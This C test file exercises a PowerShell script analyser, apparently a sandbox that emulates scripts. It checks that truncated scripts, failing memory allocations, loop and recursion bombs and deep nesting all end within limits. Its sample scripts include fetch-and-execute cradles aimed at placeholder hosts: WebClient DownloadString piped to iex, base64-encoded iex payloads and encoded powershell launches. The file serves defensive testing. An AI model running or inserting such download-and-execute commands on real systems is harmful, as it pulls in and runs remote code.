/* test_limits.c - hostile scripts end within their limits, cut scripts and failing memory are no
 * harm. */
#include "powershell/powershell.h"

#include "support/script_watch.h"

#include <time.h>

/* clang-format off */
#include <setjmp.h>
#include <stdarg.h>
#include <cmocka.h>
/* clang-format on */

static const char whole[] =
        "# comment\n"
        "function f([string]$a, $k = 3) { $o = ''; foreach ($c in $a.ToCharArray()) { $o += "
        "[char]([int]$c -bxor $k) }; return $o }\n"
        "$x = @{ a = 'http://a.example/'; 'b' = @(1, 2, 3) }; [int[]]$n = 1..5\n"
        "$t = \"$($x.a)$($x['b'][1])`n${x}\" -replace '\\s', ''\n"
        "switch -regex ($t) { 'http' { $u = $t } default { $u = 'none' } }\n"
        "try { (New-Object Net.WebClient).DownloadString($u) | iex } catch { throw 'x' } finally { "
        "$y = 1 }\n"
        "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aXdyIGh0dHA6Ly9iLmV4YW1w"
        "bGUv')))\n"
        "$h = @'\nhere\n'@\n"
        ":l for ($i = 0; $i -lt 3; $i++) { if ($i -eq 1) { continue l } }\n"
        "'{0:X2}' -f 255 | % { $_.Split('F') } | ? { $_ -ne '' } | sort | select -First 1 > "
        "C:\\o.txt\n"
        "class B { hidden [int]$n = 1; static [string]$s = 'q'; B([int]$x) : base($x) { $this.n = "
        "$x } "
        "[string] M([string]$a, $b) { return $a + $this.n } }\n"
        "class C : B { static [C] N() { return [C]::new(2) } }; enum E { a; b = 5; c }\n"
        "[C]::N().M('x', [E]::c); [B]::s = 'w'; $w = New-Object Net.WebClient; $w | gm | select -f "
        "1\n"
        "$e = [Uri]::new('http://a.example/b/c', '../d'); (nal zz iex -PassThru); $env:q = 'x'\n"
        "$m = [byte[]]@(); New-Object IO.MemoryStream($m, 0, 1); "
        "[Text.Encoding]::UTF8.GetString($m, 0, "
        "0)\n"
        "Start-Process powershell -ArgumentList '-e', 'aQB3AHIA'; & { param($q) $q } 1\n";

/* Every beginning of a script is read without harm. */
static void every_truncation_is_harmless(void **state)
{
    (void)state;
    for (size_t len = 0; len < sizeof whole; len++) {
        char *exact = malloc(len + 1);
        struct watch watch = { .evaluate = powershell_evaluate };

        assert_non_null(exact);
        memcpy(exact, whole, len);
        watch_run(&watch, SCRIPT_POWERSHELL, hn_text_of(exact, len), NULL);
        assert_int_equal(watch.status, HN_OK);
        hn_buf_deinit(&watch.out);
        free(exact);
    }
}

/* The n-th allocation fails, for every n: HN_NOMEM or a note, never a crash. */
static void failing_allocations_are_survived(void **state)
{
    bool failed = true;

    (void)state;
    for (uint64_t n = 1; failed; n++) {
        struct script_run run;
        struct script_part part = { .name = { "", 0 }, .text = { whole, sizeof whole - 1 } };
        struct script_source source = {
            .language = SCRIPT_POWERSHELL, .parts = &part, .part_count = 1, .file_name = { "", 0 }
        };
        struct hn_err err = { 0 };
        enum hn_status status;

        script_run_init(&run, NULL, NULL);
        hn_mem_fail_from(n);
        status = powershell_evaluate(&run, &source, &err);
        failed = hn_mem_fail_hits() > 0;
        hn_mem_fail_from(0);
        assert_true(status == HN_OK || status == HN_NOMEM);
        if (status == HN_NOMEM)
            assert_true(failed);
        script_run_deinit(&run);
    }
}

static double run_ms(const char *script, struct hn_text *wanted, const struct script_limits *limits)
{
    struct watch watch = { .evaluate = powershell_evaluate };
    struct timespec begin;
    struct timespec end;

    (void)clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &begin);
    watch_run(&watch, SCRIPT_POWERSHELL, hn_text_cstr(script), limits);
    (void)clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &end);
    if (wanted != NULL && hn_text_find(hn_buf_text(&watch.out), *wanted, 0) == SIZE_MAX) {
        print_error("%.60s gave: %.*s\n", script,
                HN_TEXT_ARG(hn_text_sub(hn_buf_text(&watch.out), 0, 2000)));
        fail();
    }
    hn_buf_deinit(&watch.out);
    return (double)(end.tv_sec - begin.tv_sec) * 1e3 + (double)(end.tv_nsec - begin.tv_nsec) / 1e6;
}

/* Bombs end with the name of their limit, and what came before them is told. */
static void bombs_end_within_limits(void **state)
{
    static const struct {
        const char *script;
        const char *told;
    } rows[] = {
        { "iwr http://a.example/; while ($true) { $i++ }", "loop given up" },
        { "$s = 'x'; while (1) { $s += $s }", "note limit" },
        { "$s = 'x' * 1000; for (;;) { $l += @($s + $i++) }", "note limit" },
        { "function f { f }; f; iwr http://a.example/", "Url=http://a.example/" },
        { "$t = 'iex $t'; iex $t; iwr http://a.example/", "Url=http://a.example/" },
        { "$a = @(); $a = ,$a; for (;;) { $a = ,$a + $a }", "limit" },
        { "1..900000 | % { 1..900000 }", "limit" },
        { "'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!' -match '(a+)+$'; iwr http://a.example/",
                "Url=http://a.example/" },
        { "$f = { & $f }; & $f; iwr http://a.example/", "Url=http://a.example/" },
        { "$l = 1..50000; foreach ($x in $l) { foreach ($y in $l) { $z = $x * $y } }", "limit" },
        { "$x = 'a' * 100000; 1..1000 | % { $x = $x.Replace('a', 'aa') }", "limit" },
        { "for ($i = 0; $i -lt 1000000; $i++) { Start-Sleep 1 }; iwr http://a.example/", "limit" },
    };

    (void)state;
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        struct hn_text told = hn_text_cstr(rows[i].told);
        double ms = run_ms(rows[i].script, &told, NULL);

        print_message("%6.0f ms  %s\n", ms, rows[i].script);
    }
}

/* Syntax nested deeper than the limit is left out, with a note; a chain is no nesting. */
static void nesting_is_limited_and_chains_are_not(void **state)
{
    struct hn_buf script = { 0 };
    struct hn_text told = HN_TEXT("note limit nesting of syntax");
    struct hn_text url = HN_TEXT("Url=http://a.example/");

    (void)state;
    hn_buf_add_repeat(&script, '(', 100000);
    hn_buf_add_lit(&script, "\niwr http://a.example/\n");
    hn_buf_add_char(&script, '\0');
    (void)run_ms(script.ptr, &told, NULL);
    hn_buf_reset(&script);
    hn_buf_add_lit(&script, "iwr ('http://a.exa'");
    for (int i = 0; i < 5000; i++)
        hn_buf_add_lit(&script, "+''");
    hn_buf_add_lit(&script, "+'mple/'");
    for (int i = 0; i < 5000; i++)
        hn_buf_add_lit(&script, ".Replace('#','')");
    hn_buf_add_lit(&script, ")\n");
    hn_buf_add_char(&script, '\0');
    (void)run_ms(script.ptr, &url, NULL);
    hn_buf_deinit(&script);
}

/* A text that grows in a loop and a list that does cost what they are long, not its square. */
static void growth_is_linear(void **state)
{
    struct script_limits limits = script_limits_default;
    struct hn_text told = HN_TEXT("Url=http://a.example/100000");

    (void)state;
    limits.steps_max = 10000000;
    (void)run_ms("$s = ''; $l = @(); for ($i = 0; $i -lt 100000; $i++) { $s += 'ab'; $l += $i }\n"
                 "iwr (\"http://a.example/\" + $l.Count)",
            &told, &limits);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(every_truncation_is_harmless),
        cmocka_unit_test(failing_allocations_are_survived),
        cmocka_unit_test(bombs_end_within_limits),
        cmocka_unit_test(nesting_is_limited_and_chains_are_not),
        cmocka_unit_test(growth_is_linear),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
